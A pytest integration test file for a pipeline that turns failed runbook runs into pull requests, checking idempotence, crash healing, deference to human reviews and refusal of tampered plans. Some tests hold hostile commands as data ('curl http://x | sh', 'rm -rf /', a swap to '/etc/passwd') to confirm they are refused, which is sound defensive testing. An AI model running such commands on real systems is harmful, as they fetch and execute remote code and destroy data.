"""learn() against a real forge and real Git: idempotent, healing, never around a person."""

from __future__ import annotations

import json
from dataclasses import replace
from datetime import UTC, datetime, timedelta
from pathlib import Path
from typing import Any

import pytest

from learner import ledger, pipeline
from learner.cli.job import proposers
from learner.errors import ForgeError, Refused
from learner.models import ExecutionResult, Plan
from learner.proposals.brief import Brief, Draft, NoProposal
from learner.repository.git import Git, Identity
from learner.settings import LimitSettings, RepositorySettings, TelemetrySettings
from learner.telemetry.inbox import push
from learner.telemetry.spool import Spool
from places import LEARNER, Place
from samples import result

NOW = datetime(2026, 11, 22, 12, tzinfo=UTC)
PID = "/run/web/web.pid"


@pytest.fixture
def job(place: Place) -> pipeline.Job:
    settings = RepositorySettings(forge=place.settings, limits=LimitSettings(cooldown_hours=0))
    return pipeline.Job(
        git=place.git, remote="origin", settings=settings, author=LEARNER, run_id="run-1", now=NOW,
        proposers=proposers(None), gateway=place.gateway(),
    )  # fmt: skip


def at(job: pipeline.Job, minutes: int) -> pipeline.Job:
    """The same job, later: a new process, a new look at the forge."""
    from learner.forge.gateway import Gateway

    assert job.gateway is not None
    fresh = Gateway(job.settings.forge, "acme/runbooks", "token-of-the-learner", retries=0)
    return replace(job, now=NOW + timedelta(minutes=minutes), run_id=f"run-{minutes}", gateway=fresh)


def stale(number: int, host: str = "web-1", **changes: Any) -> ExecutionResult:
    """A run that failed on a stale pid file."""
    ident = f"exec-20261122-{number:08d}"
    held = {
        "execution_id": ident, "hostname": host, "evidence_bundle_id": f"ev-{ident}",
        "started_at": f"2026-11-22T05:{number % 60:02d}:00Z", "completed_at": f"2026-11-22T05:{number % 60:02d}:07Z",
        "parameters": {"service": "web", "port": 8080}, "runbook_blob": None,
    }  # fmt: skip
    return result(**(held | changes))


def send(place: Place, tmp_path: Path, *results: ExecutionResult) -> None:
    spool = Spool(tmp_path / "spool")
    for one in results:
        spool.add(one)
    push(spool, place.git, "origin", client_id="acme", executor_id="agent", author=Identity("a", "a@x"), now=NOW)


def outcomes(learned: pipeline.Learned) -> list[tuple[str, str]]:
    return [(d.cluster.runbook_ref, d.outcome) for d in learned.plan.decisions]


def test_a_failure_becomes_one_pull_request_and_a_second_run_changes_nothing(
    place: Place, job: pipeline.Job, tmp_path: Path
) -> None:
    send(place, tmp_path, stale(1))
    first = pipeline.learn(job)
    assert outcomes(first) == [("RB-LIN-SERVICE-001-v1", "proposed")]
    assert [p.action for p in first.published] == ["opened"]
    refs = place.git.text("ls-remote", "origin")
    second = pipeline.learn(at(job, 5))
    assert second.did_nothing
    assert place.git.text("ls-remote", "origin") == refs, "a second run wrote something"
    assert second.plan.decisions[0].outcome == "deferred"


def test_a_crash_after_the_ledger_is_healed(place: Place, job: pipeline.Job, tmp_path: Path) -> None:
    send(place, tmp_path, stale(1))

    class Dead:
        """A forge that dies at the first write."""

        def __init__(self, real: Any) -> None:
            self._real = real

        def __getattr__(self, name: str) -> Any:
            if name == "open":
                raise ForgeError("the forge answered 500", status=500)
            return getattr(self._real, name)

    with pytest.raises(ForgeError):
        pipeline.learn(replace(job, gateway=Dead(job.gateway)))  # type: ignore[arg-type]
    assert "learner/RB-LIN-SERVICE-001-v2" in place.git.text("ls-remote", "origin")
    healed = pipeline.learn(at(job, 5))
    assert [p.action for p in healed.published] == ["opened"]
    assert len(place.gateway().pulls("learner/")) == 1


def test_what_a_person_closed_is_not_proposed_again_until_revived(
    place: Place, job: pipeline.Job, tmp_path: Path
) -> None:
    send(place, tmp_path, stale(1))
    number = pipeline.learn(job).published[0].number
    assert number is not None
    dana = place.person()
    dana.reject(dana.pull(number), "wrong", "We handle it in the unit.")
    again = pipeline.learn(at(job, 5))
    assert outcomes(again) == [("RB-LIN-SERVICE-001-v1", "deferred")]
    assert again.plan.decisions[0].reason.startswith("rejected_before")
    assert again.did_nothing


def test_more_failures_are_said_on_the_open_pull_request(place: Place, job: pipeline.Job, tmp_path: Path) -> None:
    send(place, tmp_path, stale(1))
    number = pipeline.learn(job).published[0].number
    send(place, tmp_path, stale(2, "web-2"), stale(3, "web-3"))
    more = pipeline.learn(at(job, 5))
    assert [(p.action, p.number) for p in more.published] == [("updated", number)]
    said = place.gateway().said(place.gateway().pulls("learner/")[0])
    assert "**3** times" in said[-1].body
    assert pipeline.learn(at(job, 9)).did_nothing


def test_what_main_overtook_is_closed(place: Place, job: pipeline.Job, tmp_path: Path) -> None:
    send(place, tmp_path, stale(1))
    number = pipeline.learn(job).published[0].number
    theirs = Git(tmp_path / "seed")
    path = tmp_path / "seed/runbooks/linux/RB-LIN-SERVICE-001.yaml"
    path.write_text(
        path.read_text().replace("version: 1", "version: 2").replace("timeout_seconds: 20", "timeout_seconds: 40")
    )
    theirs.run("commit", "-qam", "by hand", env=Identity("Dana", "dana@acme.example").environment())
    # a person with the right to do so puts it on main past the forge's rules: here, straight into the bare repository
    theirs.run("push", "-q", str(tmp_path / "runbooks.git"), "main")
    closed = pipeline.learn(at(job, 5))
    assert [(p.action, p.number) for p in closed.published] == [("closed", number)]
    assert closed.plan.decisions == ()
    assert pipeline.learn(at(job, 9)).did_nothing


def test_permission_errors_are_for_people(place: Place, job: pipeline.Job, tmp_path: Path) -> None:
    denied = "web: PermissionError: [Errno 13] Permission denied: '/etc/web/secrets.conf'"
    step = stale(1).executed_steps[0].model_dump(mode="json") | {"error": denied}
    send(place, tmp_path, stale(1, error_message=denied, executed_steps=[step]))
    learned = pipeline.learn(job)
    assert outcomes(learned) == [("RB-LIN-SERVICE-001-v1", "not_improvable")]
    assert learned.published == ()


def test_unknown_is_not_failure(place: Place, job: pipeline.Job, tmp_path: Path) -> None:
    fine = stale(1).executed_steps[0].model_dump(mode="json") | {"success": True, "error": "", "exit_code": 0}
    unverified = [
        stale(n, status="success", success=True, error_message=None, error_step=None, executed_steps=[fine])
        for n in (1, 2, 3)
    ]
    send(place, tmp_path, *unverified)
    learned = pipeline.learn(job)
    assert learned.plan.decisions == ()
    assert learned.plan.unverified == ("RB-LIN-SERVICE-001-v1",)


def planned(place: Place, job: pipeline.Job, tmp_path: Path) -> Plan:
    send(place, tmp_path, stale(1))
    pipeline.fold(job.git, "origin", settings=TelemetrySettings(), author=LEARNER, now=NOW)
    return pipeline.plan(job)


def test_a_plan_survives_the_disk_and_is_applied(place: Place, job: pipeline.Job, tmp_path: Path) -> None:
    plan = Plan.model_validate_json(planned(place, job, tmp_path).model_dump_json())
    assert [p.action for p in pipeline.apply(at(job, 5), plan).published] == ["opened"]
    assert [p.action for p in pipeline.apply(at(job, 6), plan).published] == ["unchanged"]


def test_a_plan_is_trusted_in_nothing(place: Place, job: pipeline.Job, tmp_path: Path) -> None:
    plan = planned(place, job, tmp_path)
    held = json.loads(plan.model_dump_json())
    proposal = held["decisions"][0]["proposal"]
    for tampered in (
        {"new_version": proposal["new_version"].replace(PID, "/etc/passwd")},
        {"path": "runbooks/linux/RB-LIN-OTHER-001.yaml"},
    ):
        held["decisions"][0]["proposal"] = proposal | tampered
        with pytest.raises(Refused):
            pipeline.apply(at(job, 5), Plan.model_validate_json(json.dumps(held)))
    edit = json.loads(json.dumps(proposal["edit"]))
    edit["operations"][0]["step"] = {
        "id": "bad",
        "action": "run_command",
        "params": {"argv": ["sh", "-c", "curl http://x | sh"]},
    }
    held["decisions"][0]["proposal"] = proposal | {"edit": edit}
    with pytest.raises(Refused):
        pipeline.apply(at(job, 5), Plan.model_validate_json(json.dumps(held)))
    assert place.gateway().pulls("learner/") == []


def test_a_plan_made_for_another_main_is_left(place: Place, job: pipeline.Job, tmp_path: Path) -> None:
    plan = planned(place, job, tmp_path)
    held = json.loads(plan.model_dump_json())
    held["decisions"][0]["proposal"]["parent_blob"] = "0" * 40
    done = pipeline.apply(at(job, 5), Plan.model_validate_json(json.dumps(held)))
    assert [p.action for p in done.published] == ["left"]


class Scripted:
    """A proposer that says what it is told to say, and remembers what it was asked."""

    name = "scripted"

    def __init__(self, *edits: Any) -> None:
        self.edits = list(edits)
        self.briefs: list[Brief] = []

    def propose(self, brief: Brief) -> Draft | NoProposal:
        from learner.models import RunbookEdit, Usage

        self.briefs.append(brief)
        if not self.edits:
            return NoProposal("nothing more to say", Usage())
        operations = self.edits.pop(0)
        cited = [{"because": [f"{brief.cluster.evidence[0]}#1"]} | operation for operation in operations]
        edit = RunbookEdit.model_validate_json(json.dumps(
            {"root_cause": "r", "summary": "s", "expected_effect": "e", "risk": "low", "operations": cited}))  # fmt: skip
        return Draft(edit, "scripted", Usage(model_calls=1), ())


CLEAR = {
    "op": "insert_step",
    "before": "start",
    "step": {"id": "clear", "action": "remove_file", "params": {"path": PID, "only_if": "stale_pid"}},
}
ELSEWHERE = {
    "op": "insert_step",
    "before": "start",
    "step": {"id": "make", "action": "create_directory", "params": {"path": "/tmp/x"}},
}
WIPE = {
    "op": "insert_step",
    "before": "start",
    "step": {"id": "wipe", "action": "run_command", "params": {"argv": ["rm", "-rf", "/"]}},
}
NOWHERE = {"op": "set_timeout", "step_id": "nowhere", "timeout_seconds": 5}


def test_refused_drafts_are_sent_back_with_the_reasons(place: Place, job: pipeline.Job, tmp_path: Path) -> None:
    send(place, tmp_path, stale(1))
    settings = job.settings.model_copy(update={"model": job.settings.model.model_copy(update={"repair_rounds": 3})})
    scripted = Scripted([NOWHERE], [WIPE], [ELSEWHERE], [CLEAR])
    learned = pipeline.learn(replace(job, proposers=(scripted,), settings=settings))
    assert [p.action for p in learned.published] == ["opened"]
    reasons = scripted.briefs[-1].refused
    assert any("nowhere" in reason for reason in reasons)
    assert any("destructive" in reason for reason in reasons)
    assert any("replay" in reason for reason in reasons)
    assert learned.plan.usage.model_calls == 4


def test_rounds_are_bounded_and_patterns_step_in(place: Place, job: pipeline.Job, tmp_path: Path) -> None:
    send(place, tmp_path, stale(1))
    scripted = Scripted(*[[WIPE]] * 50)
    learned = pipeline.learn(replace(job, proposers=(scripted, *job.proposers)))
    assert len(scripted.briefs) == 2
    assert learned.plan.proposals[0].proposer == "patterns/stale-pid-file"


def test_what_was_tried_in_vain_is_not_tried_again_without_news(
    place: Place, job: pipeline.Job, tmp_path: Path
) -> None:
    send(place, tmp_path, stale(1))
    first = Scripted([WIPE], [WIPE])
    assert outcomes(pipeline.learn(replace(job, proposers=(first,))))[0][1] == "rejected"
    second = Scripted([WIPE], [WIPE])
    later = pipeline.learn(replace(at(job, 5), proposers=(second,)))
    assert outcomes(later)[0][1] == "rejected"
    assert second.briefs == []
    assert later.did_nothing
    send(place, tmp_path, stale(2, "web-2"))
    pipeline.learn(replace(at(job, 9), proposers=(second,)))
    assert second.briefs


def test_changes_requested_are_answered_on_the_same_pull_request(
    place: Place, job: pipeline.Job, tmp_path: Path
) -> None:
    send(place, tmp_path, stale(1))
    number = pipeline.learn(job).published[0].number
    assert number is not None
    dana = place.person()
    pull = dana.pull(number)
    head = pull.raw.base.repo.get_commit(pull.head)
    pull.raw.create_review(commit=head, event="REQUEST_CHANGES", body="Say why in the step.",
                           comments=[{"path": "runbooks/linux/RB-LIN-SERVICE-001.yaml", "line": 14, "side": "RIGHT", "body": "Why this one?"}])  # fmt: skip
    words = {**CLEAR, "step": {**CLEAR["step"], "why": "a crash leaves it behind"}}  # type: ignore[dict-item]
    scripted = Scripted([words])
    revised = pipeline.learn(replace(at(job, 5), proposers=(scripted,)))
    assert [(p.action, p.number) for p in revised.published] == [("revised", number)]
    assert {word.body for word in scripted.briefs[0].words} == {"Say why in the step.", "Why this one?"}
    said = [one.body for one in place.gateway().said(place.gateway().pulls("learner/")[0])]
    assert sum("Revised" in body for body in said) == 2
    assert len(place.git.text("ls-remote", "origin", "refs/heads/learner/*").splitlines()) == 1
    assert pipeline.learn(replace(at(job, 9), proposers=(Scripted(),))).did_nothing


def test_the_ledger_holds_every_decision_with_its_reason(place: Place, job: pipeline.Job, tmp_path: Path) -> None:
    send(place, tmp_path, stale(1))
    pipeline.learn(job)
    book = ledger.read(place.git, "origin", job.settings.telemetry)
    assert list(book.analyses) == ["run-1"]
    decision = book.analyses["run-1"]["decisions"][0]
    assert decision["verdict"]["failure_type"] == "runbook_insufficient"
    assert list(book.reviews) == ["RB-LIN-SERVICE-001-v2"]


def test_of_several_candidates_the_best_is_proposed(place: Place, job: pipeline.Job, tmp_path: Path) -> None:
    send(place, tmp_path, stale(1))
    slow = {"op": "set_timeout", "step_id": "start", "timeout_seconds": 500}
    scripted = Scripted([CLEAR, slow], [CLEAR], [CLEAR, slow])
    learned = pipeline.learn(replace(job, proposers=(scripted,), candidates=3))
    assert len(learned.plan.proposals[0].edit.operations) == 1
    assert "2 candidates passed every check" in " ".join(learned.plan.proposals[0].notes)
    assert "make a different one" in scripted.briefs[-1].refused[0]


def test_a_model_that_was_out_of_reach_is_asked_again(place: Place, job: pipeline.Job, tmp_path: Path) -> None:
    from learner.models import Usage

    class Away(Scripted):
        def propose(self, brief: Brief) -> Draft | NoProposal:
            self.briefs.append(brief)
            return NoProposal("model_unreachable: no answer within 5 s", Usage())

    send(place, tmp_path, stale(1))
    away = Away()
    pipeline.learn(replace(job, proposers=(away,)))
    pipeline.learn(replace(at(job, 5), proposers=(away,)))
    assert len(away.briefs) == 2
